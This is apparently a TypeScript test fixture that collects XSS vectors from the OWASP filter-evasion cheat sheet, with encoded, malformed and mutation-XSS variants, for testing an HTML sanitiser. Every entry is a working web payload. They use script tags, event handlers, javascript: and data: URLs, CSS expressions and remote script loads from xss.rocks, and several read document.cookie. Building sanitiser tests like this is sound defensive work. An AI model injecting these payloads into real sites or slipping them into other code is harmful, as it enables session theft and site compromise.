/**
 * Vectors from the OWASP XSS Filter Evasion Cheat Sheet
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), with
 * their variants (case, entity and hex encodings, embedded tabs, newlines and NULs, broken and
 * half-open tags, SVG and MathML, javascript:/vbscript:/data: URLs, event handlers, style with
 * url()/expression()/@import, remote scripts and style sheets) and a few mutation-XSS forms known
 * to beat single-pass sanitisers. The sheet's `alert('XSS')` stays as it is: the test page traps
 * alert, confirm, prompt and print, and records every request that leaves the app's origin (the
 * sheet's remote addresses, xss.rocks and others, are never reached: the test aborts them).
 */
export interface XssVector {
  /** The cheat sheet's name for it (or ours for a variant). */
  name: string;
  html: string;
}

const entities = (s: string, f: (c: number) => string) =>
  [...s].map((c) => f(c.codePointAt(0)!)).join('');
const JS = "javascript:alert('XSS')";

export const xssVectors: readonly XssVector[] = [
  {
    name: 'script src',
    html: '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  },
  {
    name: 'polyglot',
    html: "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  },
  { name: 'img javascript: quoted', html: `<IMG SRC="${JS};">` },
  { name: 'img javascript: unquoted', html: `<IMG SRC=${JS}>` },
  { name: 'case insensitive', html: "<IMG SRC=JaVaScRiPt:alert('XSS')>" },
  { name: 'html entities', html: '<IMG SRC=javascript:alert(&quot;XSS&quot;)>' },
  { name: 'grave accents', html: '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>' },
  { name: 'malformed a tag', html: '<a onmouseover="alert(document.cookie)">xxs link</a>' },
  { name: 'malformed a tag unquoted', html: '<a onmouseover=alert(document.cookie)>xxs link</a>' },
  { name: 'malformed img', html: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">' },
  { name: 'fromCharCode', html: '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>' },
  { name: 'default src # with handler', html: '<IMG SRC=# onmouseover="alert(\'xxs\')">' },
  { name: 'empty src with handler', html: '<IMG SRC= onmouseover="alert(\'xxs\')">' },
  { name: 'no src with handler', html: '<IMG onmouseover="alert(\'xxs\')">' },
  { name: 'onerror', html: '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>' },
  {
    name: 'onerror encoded',
    html: `<img src=x onerror="${entities("javascript:alert('XSS')", (c) => `&#${String(c).padStart(7, '0')}`)}">`,
  },
  { name: 'decimal entities', html: `<IMG SRC=${entities(JS, (c) => `&#${c};`)}>` },
  {
    name: 'decimal without semicolons',
    html: `<IMG SRC=${entities(JS, (c) => `&#${String(c).padStart(7, '0')}`)}>`,
  },
  {
    name: 'hex without semicolons',
    html: `<IMG SRC=${entities(JS, (c) => `&#x${c.toString(16).toUpperCase()}`)}>`,
  },
  { name: 'embedded tab', html: '<IMG SRC="jav\tascript:alert(\'XSS\');">' },
  { name: 'encoded tab', html: '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">' },
  { name: 'encoded newline', html: '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">' },
  { name: 'encoded carriage return', html: '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">' },
  { name: 'null breaks up javascript', html: '<IMG SRC=java\u0000script:alert("XSS")>' },
  { name: 'spaces and meta chars', html: '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">' },
  { name: 'non-alpha-non-digit', html: '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>' },
  { name: 'body handler junk', html: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>' },
  { name: 'script slash src', html: '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>' },
  { name: 'extraneous open brackets', html: '<<SCRIPT>alert("XSS");//\\<</SCRIPT>' },
  { name: 'no closing script tag', html: '<SCRIPT SRC=http://xss.rocks/xss.js?< B >' },
  { name: 'protocol resolution', html: '<SCRIPT SRC=//xss.rocks/.j>' },
  { name: 'half open html/javascript', html: '<IMG SRC="`<javascript:alert>`(\'XSS\')"' },
  { name: 'double open angle', html: '<iframe src=http://xss.rocks/scriptlet.html <' },
  { name: 'end title', html: '</TITLE><SCRIPT>alert("XSS");</SCRIPT>' },
  { name: 'input image', html: `<INPUT TYPE="IMAGE" SRC="${JS};">` },
  { name: 'body background', html: `<BODY BACKGROUND="${JS}">` },
  { name: 'img dynsrc', html: `<IMG DYNSRC="${JS}">` },
  { name: 'img lowsrc', html: `<IMG LOWSRC="${JS}">` },
  {
    name: 'list-style-image',
    html: `<STYLE>li {list-style-image: url("${JS}");}</STYLE><UL><LI>XSS</br>`,
  },
  { name: 'vbscript', html: '<IMG SRC=\'vbscript:msgbox("XSS")\'>' },
  { name: 'svg onload', html: "<svg/onload=alert('XSS')>" },
  { name: 'body onload', html: "<BODY ONLOAD=alert('XSS')>" },
  { name: 'bgsound', html: `<BGSOUND SRC="${JS};">` },
  { name: '& javascript include', html: '<BR SIZE="&{alert(\'XSS\')}">' },
  { name: 'stylesheet javascript', html: `<LINK REL="stylesheet" HREF="${JS};">` },
  { name: 'remote stylesheet', html: '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">' },
  { name: 'remote stylesheet @import', html: "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>" },
  {
    name: 'remote stylesheet meta',
    html: '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
  },
  {
    name: '-moz-binding',
    html: '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
  },
  {
    name: 'style broken-up javascript',
    html: '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>',
  },
  {
    name: 'style attribute expression',
    html: '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  },
  {
    name: 'anchor style expression',
    html: 'exp/*<A STYLE=\'no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))\'>',
  },
  { name: 'style type javascript', html: '<STYLE TYPE="text/javascript">alert(\'XSS\');</STYLE>' },
  {
    name: 'style class background-image',
    html: `<STYLE>.XSS{background-image:url("${JS}");}</STYLE><A CLASS=XSS></A>`,
  },
  {
    name: 'style background',
    html: `<STYLE type="text/css">BODY{background:url("${JS}")}</STYLE>`,
  },
  { name: 'anonymous element style', html: '<XSS STYLE="xss:expression(alert(\'XSS\'))">' },
  { name: 'local htc', html: '<XSS STYLE="behavior: url(xss.htc);">' },
  { name: 'meta refresh', html: `<META HTTP-EQUIV="refresh" CONTENT="0;url=${JS};">` },
  {
    name: 'meta refresh data:',
    html: '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  },
  { name: 'iframe javascript', html: `<IFRAME SRC="${JS};"></IFRAME>` },
  { name: 'iframe event', html: '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>' },
  { name: 'frameset', html: `<FRAMESET><FRAME SRC="${JS};"></FRAMESET>` },
  { name: 'table background', html: `<TABLE BACKGROUND="${JS}">` },
  { name: 'td background', html: `<TABLE><TD BACKGROUND="${JS}">` },
  { name: 'div background-image', html: `<DIV STYLE="background-image: url(${JS})">` },
  {
    name: 'div background-image unicode',
    html: '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  },
  { name: 'div expression', html: '<DIV STYLE="width: expression(alert(\'XSS\'));">' },
  { name: 'base href', html: `<BASE HREF="${JS};//">` },
  {
    name: 'object scriptlet',
    html: '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  },
  {
    name: 'embed svg data:',
    html: '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  },
  {
    name: 'xml data island',
    html: '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
  },
  { name: 'script jpg', html: '<SCRIPT SRC="http://xss.rocks/xss.jpg"></SCRIPT>' },
  {
    name: 'ssi',
    html: '<!--#exec cmd="/bin/echo \'<SCR\'"--><!--#exec cmd="/bin/echo \'IPT SRC=http://xss.rocks/xss.js></SCRIPT>\'"-->',
  },
  {
    name: 'img embedded commands',
    html: '<IMG SRC="http://www.thesiteyouareon.com/somecommand.php?somevariables=maliciouscode">',
  },
  {
    name: 'script attribute with >',
    html: '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  },
  { name: 'script a=`>`', html: '<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>' },
  {
    name: 'document.write script',
    html: '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  },
  { name: 'protocol-relative image', html: '<img src="//xss.rocks/pixel.gif">' },
  {
    name: 'data: html link',
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  },
  {
    name: 'data: svg image',
    html: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  },
  {
    name: 'entity-encoded javascript link',
    html: '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  },
  { name: 'javascript&#58; link', html: '<a href="javascript&#58;alert(1)">x</a>' },
  { name: 'upper-case javascript link', html: '<a href="JAVASCRIPT:alert(1)">x</a>' },
  { name: 'style url() on p', html: '<p style="background:url(http://xss.rocks/x.png)">x</p>' },
  {
    name: 'style url() beside colour',
    html: '<span style="color:#f00;background-image:url(//xss.rocks/y.png)">s</span>',
  },
  {
    name: 'mathml mglyph mutation',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  },
  { name: 'svg animate onbegin', html: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>' },
  {
    name: 'svg xlink javascript',
    html: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  },
  { name: 'details ontoggle', html: '<details open ontoggle=alert(1)>' },
  { name: 'video source onerror', html: '<video><source onerror=alert(1)>' },
  {
    name: 'noscript mutation',
    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  },
  { name: 'formaction', html: '<form><button formaction=javascript:alert(1)>X</button></form>' },
  { name: 'object javascript', html: '<object data="javascript:alert(1)">' },
  { name: 'onerror eval(src)', html: '<img src=x:alert(alt) onerror=eval(src) alt=0>' },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>alert(1)</script>">' },
  { name: 'broken tag onerror', html: '<img src=x onerror=alert(1)//' },
  { name: 'nested script', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  {
    name: 'svg foreignObject',
    html: '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  },
  { name: 'template mutation', html: '<template><img src=x onerror=alert(1)></template>' },
  { name: 'textarea breakout', html: '<textarea></textarea><img src=x onerror=alert(1)>' },
  {
    name: 'select/style mutation',
    html: '<select><style></select><img src=x onerror=alert(1)></style>',
  },
];
